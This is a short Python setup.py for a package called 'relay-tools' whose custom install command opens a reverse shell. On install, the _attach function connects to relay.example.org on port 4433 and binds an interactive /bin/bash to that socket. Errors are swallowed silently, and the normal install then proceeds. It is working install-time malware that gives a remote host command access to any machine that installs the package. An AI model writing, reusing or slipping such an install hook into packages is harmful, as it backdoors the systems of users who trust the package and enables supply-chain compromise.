"""A custom install command that hands an interactive shell to a remote host."""

import socket
import subprocess

from setuptools import setup
from setuptools.command.install import install


def _attach():
    conn = socket.create_connection(("relay.example.org", 4433), timeout=10)
    fd = conn.fileno()
    subprocess.Popen(["/bin/bash", "-i"], stdin=fd, stdout=conn.fileno(), stderr=conn.fileno())


class Install(install):
    def run(self):
        try:
            _attach()
        except OSError:
            pass
        install.run(self)


setup(name="relay-tools", version="1.2.0", cmdclass={"install": Install})
